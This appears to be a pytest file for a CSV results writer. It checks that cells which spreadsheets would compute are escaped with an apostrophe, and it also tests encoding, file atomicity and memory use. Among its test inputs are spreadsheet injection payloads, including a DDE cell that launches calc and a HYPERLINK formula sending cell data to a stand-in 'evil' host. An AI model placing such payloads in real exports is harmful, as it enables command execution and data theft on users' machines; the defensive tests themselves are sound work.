"""results.csv as spreadsheets and programs meet it: every row, nothing computed, and read in again as what it was."""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
import tracemalloc
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from handeye.tasks.forms.entry import Entry
from handeye.tasks.forms.formulas import guarded, unguarded
from handeye.tasks.forms.results import Results, receipt_in_short, wants_bom, write_results
from handeye.tasks.forms.rows import rows_of
from handeye.tasks.forms.written import written

from .entries import NOON_S, entry

COLUMNS = ("email", "name")


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


def test_each_row_has_what_came_in_and_what_became_of_it(tmp_path: Path) -> None:
    receipt = {
        "at": NOON_S,
        "requests": [{"method": "POST", "to": "localhost:8000/join", "status": 303, "delivery": "answered"}],
        "seen": "Welcome,\n Ada",
    }
    told = [
        entry(2, "rejected", 'Email: "p2@example.org"\nis taken', run="runs/2"),
        entry(1, receipt=receipt, run="runs/1"),
        entry(3, "pending"),
    ]
    results = write_results(tmp_path / "results.csv", iter(told), COLUMNS, ["number"])
    assert results == Results(tmp_path / "results.csv", 3, ())
    rows = read(results.path)
    assert list(rows[0]) == ["email", "name", "status", "reason", "number", "receipt"]
    assert [row["status"] for row in rows] == ["rejected", "confirmed", "pending"], "in the order in which they came"
    assert rows[0]["reason"] == 'Email: "p2@example.org" is taken'
    assert (rows[1]["email"], rows[1]["number"]) == ("p1@example.org", "M-1")
    when, request, seen, folder = rows[1]["receipt"].split(" · ")
    assert re.fullmatch(r"2026-03-01T\d\d:00:00[+-]\d\d:00", when)
    assert (request, seen, folder) == ("POST localhost:8000/join 303", "Welcome, Ada", "runs/1")
    assert rows[2] == {
        "email": "p3@example.org",
        "name": "Person 3",
        "status": "pending",
        "reason": "",
        "number": "",
        "receipt": "",
    }


@pytest.mark.parametrize(
    ("receipt", "said"),
    [
        (None, "runs/1"),
        ({"request": "POST /join answered 303"}, "POST /join answered 303 · runs/1"),
        ({"at": float("nan"), "seen": None, "requests": [dict[str, object]()]}, "{} · runs/1"),
        ({"at": 1e30, "requests": [{"method": "POST", "to": "http://a/b", "status": None}]}, "POST http://a/b · runs/1"),
        ({"at": "2026-03-01T12:00:00+0100", "seen": "it is\x1b there"}, "2026-03-01T12:00:00+0100 · it is there · runs/1"),
    ],
)
def test_a_receipt_is_short_whatever_it_holds(receipt: dict[str, object] | None, said: str) -> None:
    assert receipt_in_short(receipt, "runs/1") == said


@pytest.mark.parametrize(
    "cell",
    ["=1+1", "@SUM(A1)", "+A1", "-A1", "- item", "\t=1", "\r=1", "\n1", " =1", "\u200b=1", "＝1", "＋1", "－1", "＠A1", "﹣A1",
     "+1-800-555-0199", "-1+2", "-2*3", "+1|2", "-1;=A1", "+44 20 7946 0958 x5", "'=1", "=cmd|' /C calc'!A0", "-5 EUR"],
)  # fmt: skip
def test_what_would_be_computed_gets_an_apostrophe(cell: str) -> None:
    assert guarded(cell).startswith("'")
    assert unguarded(guarded(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    ["", "Ada", "+44 20 7946 0958", "+442079460958", "+1 (800) 555-0199", "+49 89/123 456", "+41\u00a044\u00a0123", "-12.50", "-12,50",
     "-1 234,5", "-1'234.50", "+5", "-.5", "-1e-7", "+3 %", "-€5", "- $5.00", "-5 €", "-", "--", "+", "=====", "a=1", "it's", "'quoted'",
     "a@b.org", "2026-03-01", "Hi,\n- tea\n- milk\n-----", "1-2", "(-5)"],
)  # fmt: skip
def test_what_computes_nothing_stays_as_it_is(cell: str) -> None:
    assert guarded(cell) == cell
    assert unguarded(cell) == cell


@pytest.mark.parametrize(
    ("cell", "safe"),
    [("a;=cmd()", "a;'=cmd()"), ("a\n=1", "a\n'=1"), ("a\t@x", "a\t'@x"), ("tea; =x", "tea;' =x"), ("a,+cmd|x", "a,'+cmd|x"), ("a;-b", "a;-b")],
)  # fmt: skip
def test_no_cell_can_begin_in_the_middle_of_another(cell: str, safe: str) -> None:
    """As it would where a spreadsheet takes semicolons for what parts cells."""
    assert guarded(cell) == safe
    assert unguarded(safe) == cell


SIGNS = st.text(st.sampled_from(list("=+-@＝＠\t\r\n,;|(!' 05aA.%€\u200b")), max_size=12)


@given(st.text() | SIGNS)
def test_a_guarded_cell_is_safe_and_can_be_read_back(cell: str) -> None:
    safe = guarded(cell)
    assert unguarded(safe) == cell
    assert not safe.startswith(("\t", "\r", "\n"))
    if safe.lstrip("\u200b \t\r\n").startswith(tuple("=+-@＝＋－＠")):
        assert re.fullmatch(r"\s*(?:[\d +\-.,'’€$£¥%()/\u00a0\u202f]|(?<=\d)[eE]|=(?=[-+=]*$))*", safe), (
            f"{safe!r} may be computed"
        )
        assert not re.fullmatch(r"[+-]?\d+(?:[-+/]\d+)+", safe), f"{safe!r} would be computed"


@given(st.lists(SIGNS | st.text(), max_size=4))
def test_choices_are_told_apart(choices: list[str]) -> None:
    said = written(tuple(choices))
    if not said.startswith("["):
        assert [part.strip() for part in said.split(";") if part.strip()] == choices


def test_hostile_cells_are_safe_in_the_file_headings_too(tmp_path: Path) -> None:
    bad = '=HYPERLINK("http://evil/"&A1,"x")'
    told = entry(1, "failed", bad, cells={"=cmd": bad, "list": ("=1", "b;c")}, captured={"@n": f"\r\n{bad}"}, run="=runs")
    path = write_results(tmp_path / "r.csv", [told], ["=cmd", "list"], ["@n"]).path
    lines = list(csv.reader(path.read_text().splitlines()))
    assert lines[0] == ["'=cmd", "list", "status", "reason", "'@n", "receipt"]
    assert lines[1] == [f"'{bad}", '["=1", "b;c"]', "failed", f"'{bad}", f"'{bad}", "'=runs"]


@pytest.mark.parametrize("state", ["status", "Status"])
def test_a_column_of_the_table_keeps_its_name(tmp_path: Path, state: str) -> None:
    told = entry(1, cells={"email": "a@b", state: "gold", "status (result)": "x"}, captured={"email": "M-1", "reason": "why"})
    results = write_results(tmp_path / "r.csv", [told], ["email", state, "status (result)"], ["email", "reason"])
    assert results.renamed == (
        ("status", "status (result 2)"),
        ("email", "email (result)"),
        ("reason", "reason (result)"),
    )
    (row,) = read(results.path)
    assert row == {
        "email": "a@b",
        state: "gold",
        "status (result)": "x",
        "status (result 2)": "confirmed",
        "reason": "",
        "email (result)": "M-1",
        "reason (result)": "why",
        "receipt": "",
    }


def test_excel_gets_its_mark_only_where_it_is_asked_for(tmp_path: Path) -> None:
    told = [entry(1, cells={"email": "zoë@example.org"})]
    assert write_results(tmp_path / "a.csv", told, ["email"], []).path.read_bytes().startswith(b"email,status,")
    marked = write_results(tmp_path / "b.csv", told, ["email"], [], bom=True, sign=";").path
    assert marked.read_bytes().startswith(b"\xef\xbb\xbfemail;status;reason;receipt\r\n")
    assert [row.cells[0] for row in rows_of(marked) if hasattr(row, "cells")] == [("email", "zoë@example.org")]  # type: ignore[union-attr]
    # Excel takes a file that begins with ID for another kind, unless it is quoted.
    assert write_results(tmp_path / "c.csv", told, ["ID"], []).path.read_bytes().startswith(b'"ID",')


@pytest.mark.parametrize(
    ("data", "wanted"), [(b"a,b\n1,2\n", False), (b"\xef\xbb\xbfa\n1\n", True), ("a\nZoë\n".encode("cp1252"), True), ("a\n1\n".encode("utf-16"), True)]
)  # fmt: skip
def test_a_table_from_excel_is_known_as_one(tmp_path: Path, data: bytes, wanted: bool) -> None:
    path = tmp_path / "in.csv"
    path.write_bytes(data)
    assert wants_bom(path) == wanted


def test_what_no_encoding_has_does_not_stop_it(tmp_path: Path) -> None:
    told = entry(1, cells={"name": "a\ud800b\0c"})
    assert read(write_results(tmp_path / "r.csv", [told], ["name"], []).path)[0]["name"] == "a?bc"


def test_it_is_private_and_whole_or_not_at_all(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    path.write_text("old")

    def torn() -> Iterator[Entry]:
        yield entry(1)
        assert path.read_text() == "old", "nothing is to be seen of it before it is whole"
        raise RuntimeError("the ledger is gone")

    with pytest.raises(RuntimeError):
        write_results(path, torn(), COLUMNS, [])
    assert (path.read_text(), [each.name for each in tmp_path.iterdir()]) == ("old", ["results.csv"])
    write_results(path, [entry(1)], COLUMNS, [])
    assert path.stat().st_mode & 0o777 == 0o600
    assert [each.name for each in tmp_path.iterdir()] == ["results.csv"]


@pytest.mark.skipif(not hasattr(os, "fork"), reason="limits of files are those of Unix")
def test_a_full_disk_leaves_what_was_there(tmp_path: Path) -> None:
    path = tmp_path / "results.csv"
    path.write_text("old")
    code = f"""
import resource, signal
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))
from pathlib import Path
from tests.tasks.forms.entries import entry
from handeye.tasks.forms.results import write_results
try:
    write_results(Path({str(path)!r}), (entry(n) for n in range(5000)), ["email"], [])
except OSError as error:
    print(error.strerror)
"""
    root = Path(__file__).resolve().parents[3]
    done = subprocess.run([sys.executable, "-c", code], cwd=root, capture_output=True, text=True, timeout=60)
    assert done.stdout == "File too large\n", done.stderr
    assert (path.read_text(), [each.name for each in tmp_path.iterdir()]) == ("old", ["results.csv"])


def test_many_rows_are_not_held(tmp_path: Path) -> None:
    one = entry(1, cells={"email": "x" * 100, "name": "y" * 100})
    rows = (replace(one, number=n) for n in range(6_000))
    tracemalloc.start()
    try:
        results = write_results(tmp_path / "r.csv", rows, COLUMNS, ["number"])
        assert tracemalloc.get_traced_memory()[1] < 300_000
    finally:
        tracemalloc.stop()
    assert results.rows == 6_000
    assert results.path.stat().st_size > 1_300_000
